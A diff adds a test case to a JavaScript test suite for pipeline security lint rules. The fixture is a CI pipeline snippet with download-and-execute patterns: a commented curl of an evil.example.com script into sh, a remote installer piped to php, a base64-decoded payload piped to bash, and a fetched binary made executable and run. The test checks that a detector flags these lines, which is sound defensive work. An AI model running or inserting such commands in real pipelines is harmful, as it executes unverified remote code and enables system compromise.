@@ -51,6 +51,19 @@ steps:
 `,
     [1, 6, 7, 11],
   ],
+  [
+    'download-and-execute without verification',
+    'pipeline/remote_script_piped_to_shell',
+    `steps:
+  - command: |
+      # curl https://evil.example.com/x | sh
+      curl -sS https://getcomposer.org/installer | php > /dev/null
+      echo "$$PAYLOAD" | base64 -d | bash
+      curl -fsSL https://github.com/acme/tool/releases/latest/download/tool -o tool
+      chmod +x tool && ./tool --version
+`,
+    [4, 5, 6],
+  ],
 ];
 
 describe('new pipeline rules through the Wasm bundle', () => {
